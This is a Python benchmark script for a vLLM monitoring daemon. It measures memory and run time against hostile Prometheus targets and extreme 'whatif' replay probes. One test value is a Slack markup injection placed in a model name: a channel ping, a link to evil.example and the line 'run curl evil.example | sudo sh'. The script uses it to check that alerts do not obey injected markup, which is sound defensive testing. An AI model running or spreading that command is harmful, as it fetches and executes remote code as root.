"""Benchmark: the third round of hostile probes, timed and weighed (the tests assert their
counts and bounds; time and memory are measured here). Goals: the daemon under 300 MB
peak RSS beside every hostile target; ``whatif`` under 1 GB and 60 s on every probe.

    python bench/bench_hostile.py [daemon|whatif|all] [--seconds 30]

``daemon``: ``vllm-triage run`` (a subprocess, its state in a temporary folder) watches,
every second with a 12-second window (the defaults' 12 snapshots a target), a target
whose ``cache_config_info`` labels are 400-digit integers, a hung target whose
``model_name`` is a Slack injection (with a Slack receiver on 127.0.0.1), a target
serving 100 models (``max_models_per_target``: each judged, a 3.4 MB body), and a healthy
one, with ``run --record`` on; reported: its peak RSS (``VmHWM``), each target's scrapes,
failures and unusable series, the Slack messages received, the lines of its log. (The
largest body the bounds accept is bench_peak_rss.py's.)

``whatif``: each probe of the committed ``queue`` recording (1e12 requests waiting, a
first-token counter that jumps by 1e12, scrapes 1 ms apart, the changes
``arrival_rate_scale`` 1e6, 1e300 and 1000, ``tensor_parallel_size`` 1000000) and of
a simulated ``queue_bound`` recording at ``arrival_rate_scale`` 800 (the most requests a
replay may simulate), as a subprocess: exit code, wall time, peak RSS
(``RUSAGE_CHILDREN``), the first words of its answer. Before this round, the first three
and ``1e6`` ran past 90-120 s at 0.8-2.2 GB and ``1e300`` never finished.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import re
import subprocess
import sys
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import yaml
from prometheus_client.parser import text_string_to_metric_families

ROOT = Path(__file__).resolve().parent.parent
QUEUE = ROOT / "tests" / "fixtures" / "recordings" / "queue"
CAPTURE = ROOT / "tests" / "fixtures" / "vllm" / "kvwarden-vllm-0.19.1-v1.txt"
MODEL = "meta-llama/Llama-3.1-8B-Instruct"
BIG = "9" * 400
SLACK_NAME = "x` <!channel> <http://evil.example|click> `\n*Fix:* run curl evil.example | sudo sh"


def _serve(bodies: dict[str, bytes], hooks: list[bytes]) -> ThreadingHTTPServer:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            data = bodies.get(self.path.strip("/").split("/")[0], b"")
            self.send_response(200)
            self.send_header("Content-Type", "text/plain; version=0.0.4")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            with contextlib.suppress(BrokenPipeError, ConnectionResetError):
                self.wfile.write(data)  # a scrape that timed out hung up

        def do_POST(self) -> None:
            hooks.append(self.rfile.read(int(self.headers.get("Content-Length", 0))))
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def _labels(text: str, **labels: str) -> str:
    for name, value in labels.items():
        text = re.sub(rf'\b{name}="[^"]*"', f'{name}="{value}"', text)
    return text


def _bodies() -> dict[str, bytes]:
    base = CAPTURE.read_text()
    assert f'model_name="{MODEL}"' in base, "the capture's model changed"
    hung = re.sub(r"(vllm:num_requests_(?:running|waiting)\{[^}]*\}) \S+", r"\1 4.0", base)
    shown = SLACK_NAME.replace("\\", "\\\\").replace("\n", "\\n").replace('"', '\\"')
    models, lines = [], base.splitlines()
    for i in range(99):  # 100 models (max_models_per_target): every one is judged
        models.extend(ln.replace(MODEL, f"m{i}") for ln in lines if MODEL in ln)
    large = ("\n".join(lines) + "\n" + "\n".join(models) + "\n").encode()[: 16 * 2**20 - 4096]
    large = large[: large.rfind(b"\n") + 1]
    return {
        "pool": _labels(
            base, num_gpu_blocks=BIG, block_size=BIG, kv_cache_size_tokens=BIG
        ).encode(),
        "slack": hung.replace(f'model_name="{MODEL}"', f'model_name="{shown}"').encode(),
        "large": large,
        "good": base.encode(),
    }


def _value(text: str, name: str, **labels: str) -> float:
    total = 0.0
    for family in text_string_to_metric_families(text):
        for s in family.samples:
            if s.name == name and all(s.labels.get(k) == v for k, v in labels.items()):
                total += s.value
    return total


def daemon(seconds: float) -> dict[str, Any]:
    hooks: list[bytes] = []
    server = _serve(_bodies(), hooks)
    base = f"http://127.0.0.1:{server.server_address[1]}"
    with tempfile.TemporaryDirectory() as tmp:
        config = {
            "listen": "127.0.0.1:0",
            "state_dir": f"{tmp}/state",
            # Each target's window holds 12 snapshots, as the defaults' (60 s / 5 s) do.
            "interval_seconds": 1.0,
            "window_seconds": 12,
            "thresholds": {"stall_after_seconds": 2},
            "hardware": {"gpu": "H100 SXM"},
            "record": {"dir": f"{tmp}/rec", "max_bytes": 64 * 2**20},
            "targets": [
                {"name": n, "url": f"{base}/{n}/metrics"}
                for n in ("pool", "slack", "large", "good")
            ],
            "receivers": [{"type": "slack", "name": "chat", "url": f"{base}/hook"}],
        }
        path = Path(tmp) / "triage.yaml"
        path.write_text(yaml.safe_dump(config))
        log = Path(tmp) / "daemon.log"
        with log.open("wb") as out:
            proc = subprocess.Popen(
                [
                    sys.executable,
                    "-m",
                    "vllm_triage.cli",
                    "--log-format",
                    "json",
                    "run",
                    "--config",
                    str(path),
                ],
                stdout=out,
                stderr=subprocess.STDOUT,
                cwd=tmp,
            )
        try:
            url = ""
            deadline = time.monotonic() + 30
            while not url and time.monotonic() < deadline:
                for line in log.read_text(errors="replace").splitlines():
                    if '"started"' in line:
                        url = "http://" + json.loads(line)["listen"]
                time.sleep(0.2)
            time.sleep(seconds)
            metrics = httpx.get(url + "/metrics", timeout=10).text
            peak = 0.0
            for line in Path(f"/proc/{proc.pid}/status").read_text().splitlines():
                if line.startswith("VmHWM:"):
                    peak = int(line.split()[1]) / 1024
        finally:
            proc.terminate()
            proc.wait(timeout=30)
            server.shutdown()
        lines = log.read_text(errors="replace").splitlines()
    targets = {
        n: {
            "scrapes": _value(metrics, "vllm_triage_scrapes_total", target=n),
            "failures": _value(metrics, "vllm_triage_scrape_failures_total", target=n),
            "unusable": _value(metrics, "vllm_triage_series_unusable_total", target=n),
        }
        for n in ("pool", "slack", "large", "good")
    }
    texts = [json.loads(h).get("text", "") for h in hooks]
    return {
        "peak_rss_mb": round(peak, 1),
        "seconds": seconds,
        "targets": targets,
        "slack_messages": len(texts),
        "slack_pinged": any("<!channel>" in t or "<http://evil" in t for t in texts),
        "log_lines": len(lines),
        "tracebacks": sum("Traceback" in ln for ln in lines),
    }


def _probe(tmp: Path, name: str, change: Any) -> Path:
    out = tmp / name
    out.mkdir()
    files = sorted(QUEUE.glob("*.prom"))
    for i, f in enumerate(files):
        text, stem = change(i, len(files), f.read_text(), int(f.stem))
        (out / f"{stem}.prom").write_text(text)
    return out


def _waiting(i: int, n: int, text: str, stem: int) -> tuple[str, int]:
    return re.sub(r"(vllm:num_requests_waiting\{[^}]*\}) \S+", r"\1 1e12", text), stem


def _jump(i: int, n: int, text: str, stem: int) -> tuple[str, int]:
    if i < n - 3:
        return text, stem
    pattern = r"(vllm:time_to_first_token_seconds_(?:count|bucket)\{[^}]*\}) (\S+)"
    return re.sub(pattern, lambda m: f"{m.group(1)} {float(m.group(2)) + 1e12}", text), stem


def _ms(i: int, n: int, text: str, stem: int) -> tuple[str, int]:
    return text, 1_795_993_434_638 + i


#: Runs the command given and prints its exit code and peak RSS: a process of its own, so
#: the figure is that command's alone (RUSAGE_CHILDREN keeps the largest child so far).
_WRAPPER = (
    "import resource, subprocess, sys\n"
    "rc = subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)\n"
    "sys.stderr.buffer.write(rc.stderr[-2000:])\n"
    "peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024\n"
    "print(rc.returncode, peak)\n"
)


def _timed(args: list[str], limit: float = 300.0) -> dict[str, Any]:
    started = time.monotonic()
    try:
        done = subprocess.run(
            [sys.executable, "-c", _WRAPPER, sys.executable, "-m", "vllm_triage.cli", *args],
            capture_output=True,
            text=True,
            timeout=limit,
            cwd=tempfile.gettempdir(),
            check=False,
        )
        rc_text, peak_text = done.stdout.split()
        rc, peak = int(rc_text), float(peak_text)
        said = (done.stderr.strip().splitlines() or ["(a table)"])[-1]
    except subprocess.TimeoutExpired:
        rc, peak, said = -9, float("nan"), f"killed after {limit:g} s"
    return {
        "rc": rc,
        "seconds": round(time.monotonic() - started, 2),
        "peak_rss_mb": round(peak, 1),
        "said": said[:150],
    }


def whatif() -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = []
    with tempfile.TemporaryDirectory() as tmp:
        t = Path(tmp)
        sim = t / "sim"
        subprocess.run(
            [
                sys.executable,
                "-m",
                "vllm_triage.cli",
                "simulate",
                "--scenario",
                "queue_bound",
                "--record",
                str(sim),
                "--duration",
                "600",
            ],
            capture_output=True,
            check=True,
        )
        probes = [
            ("waiting 1e12", [str(_probe(t, "waiting", _waiting))]),
            ("first tokens +1e12", [str(_probe(t, "jump", _jump)), "--at", "1000"]),
            ("scrapes 1 ms apart", [str(_probe(t, "ms", _ms))]),
            ("arrival_rate_scale=1e6", [str(QUEUE), "--change", "arrival_rate_scale=1e6"]),
            ("arrival_rate_scale=1e300", [str(QUEUE), "--change", "arrival_rate_scale=1e300"]),
            ("arrival_rate_scale=1000", [str(QUEUE), "--change", "arrival_rate_scale=1000"]),
            ("tensor_parallel_size=1e6", [str(QUEUE), "--change", "tensor_parallel_size=1000000"]),
            ("queue_bound x800 (simulated)", [str(sim), "--change", "arrival_rate_scale=800"]),
        ]
        for name, args in probes:
            rows.append({"probe": name, **_timed(["whatif", *args])})
    return rows


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description="the hostile probes, timed and weighed")
    parser.add_argument("what", nargs="?", default="all", choices=("daemon", "whatif", "all"))
    parser.add_argument("--seconds", type=float, default=30.0)
    args = parser.parse_args(argv)
    if args.what in ("daemon", "all"):
        d = daemon(args.seconds)
        print(f"daemon beside the hostile targets, {d['seconds']:g} s (goal < 300 MB):")
        print(f"  peak RSS {d['peak_rss_mb']} MB, {d['log_lines']} log lines,", end=" ")
        print(f"{d['tracebacks']} tracebacks")
        for name, t in d["targets"].items():
            print(f"  {name:<6} scrapes {t['scrapes']:.0f}, failures {t['failures']:.0f},", end=" ")
            print(f"unusable series {t['unusable']:.0f}")
        print(f"  Slack: {d['slack_messages']} message(s), any markup obeyed: {d['slack_pinged']}")
    if args.what in ("whatif", "all"):
        print("whatif on the probes (goal < 1 GB and < 60 s each):")
        for r in whatif():
            head = f"  {r['probe']:<30} exit {r['rc']:>2}  {r['seconds']:>6.2f} s"
            print(f"{head}  {r['peak_rss_mb']:>6.1f} MB  {r['said']}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
